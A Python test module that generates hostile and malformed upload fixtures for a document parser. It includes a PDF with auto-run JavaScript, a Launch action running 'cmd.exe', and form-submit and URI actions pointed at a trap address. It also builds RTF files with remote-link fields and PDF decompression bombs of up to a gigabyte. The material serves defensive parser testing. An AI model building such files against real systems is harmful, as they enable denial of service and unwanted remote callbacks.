"""上传之害·版式与旧版文件: PDF, old Word, RTF and Excel files made to harm, and files of every kind cut off."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator
from random import Random

from tests.published.zoo import REPORT, TABLE, Beast, Trap, fixed, made, page_of, rows_of
from tests.published.zoo_packages import book, packed, paragraphs, table, told, word

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FONT = (
    "<</Type/Font/Subtype/Type0/BaseFont/F/Encoding/Identity-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2"
    "/BaseFont/F/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>/DW 1000>>]/ToUnicode 5 0 R>>"
)
UNICODE = "begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange 1 beginbfrange <0000> <ffff> <0000> endbfrange endcmap"


def stream(content: bytes | str, entries: str = "") -> bytes:
    held = content.encode() if isinstance(content, str) else content
    return f"<<{entries}/Length {len(held)}>>stream\n".encode() + held + b"\nendstream"


def drawn() -> str:
    """The report and its table as they are drawn: each line, each cell with its four sides."""
    lines = [f"BT /F 10 Tf 50 {800 - 14 * at} Td <{_coded(line)}> Tj ET" for at, line in enumerate(REPORT.split("\n"))]
    for down, row in enumerate(TABLE):
        for across, text in enumerate(row):
            left, low = 50 + (200 + 40 * (across - 1) if across else 0), 700 - 20 * down
            wide = 40 if across else 200
            lines.append(f"{left} {low} {wide} 20 re S BT /F 8 Tf {left + 4} {low + 6} Td <{_coded(text)}> Tj ET")
    return "\n".join(lines)


def _coded(text: str) -> str:
    return text.encode("utf-16-be").hex()


def pdf(
    content: bytes | None = None, root: str = "", page: str = "", more: tuple[bytes, ...] = (), kids: str = "3 0 R"
) -> bytes:
    """A PDF whose objects stand in it unpacked, with entries of its root and page; ``more`` are numbered from 6."""
    objects = (
        f"<</Type/Catalog/Pages 2 0 R{root}>>".encode(),
        f"<</Type/Pages/Kids[{kids}]/Count {len(kids.split(' 0 R')) - 1}>>".encode(),
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F {FONT}>>>>{page}>>".encode(),
        content or stream(drawn()),
        stream(UNICODE),
        *more,
    )
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, each in enumerate(objects, 1):
        places.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + each + b"\nendobj\n")
    start = out.tell()
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{rows}".encode())
    out.write(f"trailer<</Root 1 0 R/Size {len(objects) + 1}>>\nstartxref\n{start}\n%%EOF".encode())
    return out.getvalue()


def _acting(trap: Trap) -> bytes:
    """A PDF that would run, launch, send and unpack."""
    actions = (
        f"<</S/JavaScript/JS(app.launchURL\\('{trap.address}'\\);)>>",
        f"<</S/Launch/F(/usr/bin/touch)/Win<</F(cmd.exe)/P(/c touch {trap.mark})>>>>",
        f"<</S/URI/URI({trap.address}/u)>>",
        f"<</S/SubmitForm/F<</FS/URL/F({trap.address}/s)>>>>",
        f"<</S/GoToR/F({trap.canary})/D[0/Fit]>>",
        f"<</S/ImportData/F({trap.canary})>>",
    )
    notes = "".join(f"<</Type/Annot/Subtype/Link/Rect[0 0 500 800]/A{action}>>" for action in actions)
    inner = "<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>"
    root = f"/OpenAction{actions[0]}/AA<</WC{actions[1]}>>/Names<</JavaScript<</Names[(a){actions[0]}]>>/EmbeddedFiles{inner}>>"
    elsewhere = (
        f"<</Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F({trap.address}/i)>>/Length 0>>stream\nendstream"
    )
    return pdf(root=root, page=f"/AA<</O{actions[1]}>>/Annots[{notes}]", more=(stream("MZ"), elsewhere.encode()))


def locked() -> bytes:
    """A PDF that opens by a password only: what it says of its key fits none that is guessed."""
    key = f"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<{'5a' * 32}>/U<{'a5' * 32}>>>/ID[<00><00>]"
    return pdf().replace(b"trailer<<", b"trailer<<" + key.encode())


def packed_stream(size: int, times: int = 1) -> bytes:
    held = b"0 0 m " * (size // 6)
    for _ in range(times):
        held = zlib.compress(held, 9)
    return stream(held, f"/Filter[{'/FlateDecode' * times}]")


def _pdfs() -> Iterator[Beast]:
    sound = pdf()
    yield Beast("pdf, sound", fixed(sound))
    yield Beast("pdf that acts", _acting)
    yield Beast("pdf locked", fixed(locked()), says="加密")
    yield Beast("pdf whose pages hold themselves", fixed(pdf(kids="2 0 R 2 0 R 3 0 R")))
    yield Beast("pdf of one page 100,000 times", made(lambda: pdf(kids="3 0 R " * 100_000)))
    yield Beast("pdf of a claim of pages", fixed(sound.replace(b"/Count 1", b"/Count 2147483647")))
    yield Beast("pdf of a stream of 2 GB", fixed(sound.replace(b"/Length ", b"/Length 2147483647 %")))
    yield Beast("pdf of a stream less than nothing", fixed(sound.replace(b"/Length ", b"/Length -1 %")))
    start = sound.rindex(b"startxref")
    yield Beast(
        "pdf whose table leads to itself",
        fixed(sound[:start].replace(b"trailer<<", b"trailer<</Prev %d" % sound.rindex(b"xref\n0")) + sound[start:]),
    )
    yield Beast("pdf without its table", fixed(sound[: sound.rindex(b"xref\n0")]))
    yield Beast("pdf of a page without end", fixed(sound.replace(b"595 842", b"1e38 1e38")))
    yield Beast("pdf of a page of nothing", fixed(sound.replace(b"595 842", b"0 0")))
    yield Beast("pdf of letters without end", fixed(sound.replace(b"10 Tf", b"1e30 Tf")))
    yield Beast(
        "pdf of forms in forms",
        fixed(
            pdf(stream("/X Do " * 10 + drawn()), page="", more=(_form(6),)).replace(
                b"/Font<<", b"/XObject<</X 6 0 R>>/Font<<", 1
            )
        ),
    )
    yield Beast("pdf bomb: 300 MB", made(lambda: pdf(packed_stream(300 * 2**20))), long=True)
    yield Beast("pdf bomb: 1 GB, twice packed", made(lambda: pdf(packed_stream(2**30, 2))), long=True)
    yield Beast("pdf of 200,000 lines", made(lambda: pdf(stream(drawn() + " 0 0 m 9 9 l S" * 200_000))))
    yield Beast("pdf of 50,000 boxes", made(lambda: pdf(stream(drawn() + _boxes(50_000)))))
    yield Beast(
        "pdf of 2,000,000 letters", made(lambda: pdf(stream(drawn() + f" BT /F 1 Tf <{'516c' * 2_000_000}> Tj ET")))
    )
    yield Beast("pdf of 300,000 texts", made(lambda: pdf(stream(drawn() + _scattered(300_000)))))
    yield Beast("pdf deep in brackets", made(lambda: pdf(root="/A" + "[" * 500_000)))
    yield Beast("pdf of no font", fixed(pdf(page="").replace(b"/Font<<", b"/Fonts<<")))
    yield Beast("pdf behind a page", fixed(page_of("").encode()[:900] + sound))


def _form(number: int) -> bytes:
    return stream("/X Do /X Do", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {number} 0 R>>>>")


def _boxes(count: int) -> str:
    chance = Random(1)
    return "".join(f" {chance.randrange(500)} {chance.randrange(800)} 30 12 re S" for _ in range(count))


def _scattered(count: int) -> str:
    chance = Random(2)
    return "".join(f" BT /F 5 Tf {chance.randrange(590)} {chance.randrange(840)} Td <516c> Tj ET" for _ in range(count))


def _named(*names: str) -> bytes:
    """An OLE file as far as its names."""
    return OLE + bytes(504) + b"".join(name.encode("utf-16-le") + bytes(64) for name in names) + bytes(4_096)


def _linked_rtf(trap: Trap) -> bytes:
    field = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{trap.address}/a.png" \\\\d}}}}'
    text = f'{{\\field{{\\*\\fldinst INCLUDETEXT "{trap.canary}"}}}}{{\\*\\template {trap.address}/b.dot}}'
    object_ = f"{{\\object\\objautlink{{\\*\\objclass cmd}}{{\\*\\objdata {trap.mark}}}}}"
    words = "".join("\\par " if each == "\n" else f"\\u{ord(each)}?" for each in REPORT)
    return f"{{\\rtf1\\ansi {words}{field}{text}{object_}}}".encode()


def _old() -> Iterator[Beast]:
    yield Beast(
        "old Word, locked",
        fixed(OLE + bytes(504) + b"\xec\xa5" + bytes(9) + b"\x01" + "WordDocument".encode("utf-16-le")),
        says="加密",
    )
    yield Beast("Office, locked", fixed(_named("EncryptedPackage", "EncryptionInfo")), "年报.docx", "加密")
    yield Beast("old Office of nothing", fixed(_named("Nothing")), says="旧版Office")
    yield Beast("old Excel of nothing", fixed(_named("Workbook")), says="损坏")
    claim = bytearray(_named("Workbook"))
    claim[44:48] = b"\xff\xff\xff\x7f"
    yield Beast("old Excel that claims 2 GB", fixed(bytes(claim)), says="损坏")
    loop = bytearray(_named("Workbook"))
    loop[24:34] = b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    loop[44:80] = b"\x01\0\0\0" * 9
    yield Beast("old Excel that leads to itself", fixed(bytes(loop)), says="损坏")
    yield Beast("old Word of nothing", fixed(_named("WordDocument", "_VBA_PROJECT")), "年报.doc", "年报", office=True)
    yield Beast("RTF with links", _linked_rtf, "年报.rtf", office=True)
    yield Beast("RTF deep in brackets", fixed(b"{\\rtf1 " + b"{" * 1_000_000), "年报.doc", office=True)
    yield Beast("RTF of 2 GB claimed", fixed(b"{\\rtf1 \\bin2147483647 " + b"0" * 999), "年报.doc", office=True)


def _whole() -> Iterator[tuple[str, bytes]]:
    yield "docx", packed(word(paragraphs() + table()))
    yield "xlsx", packed(book(told()))
    yield "pdf", pdf()
    yield "html", page_of(f"<table>{rows_of()}</table>").encode()
    yield "txt", (REPORT + "\n".join("\t".join(row) for row in TABLE)).encode("gb18030")


def _cut() -> Iterator[Beast]:
    """Each kind of file cut at places drawn by chance, and with bytes of it changed."""
    chance = Random(3)
    for kind, data in _whole():
        for number, at in enumerate(sorted(chance.sample(range(1, len(data)), 8))):
            yield Beast(f"{kind} cut {number}", fixed(data[:at]), f"年报.{kind}", long=number % 8 > 0)
        for number in range(8):
            changed = bytearray(data)
            for _ in range(9):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            yield Beast(f"{kind} changed {number}", fixed(bytes(changed)), f"年报.{kind}", long=number % 8 > 0)
        wrong = {"docx": "pdf", "xlsx": "docx", "pdf": "txt", "html": "xlsx", "txt": "zip"}[kind]
        yield Beast(f"{kind} called {wrong}", fixed(data), f"年报.{wrong}")


def beasts() -> Iterator[Beast]:
    yield from _pdfs()
    yield from _old()
    yield from _cut()
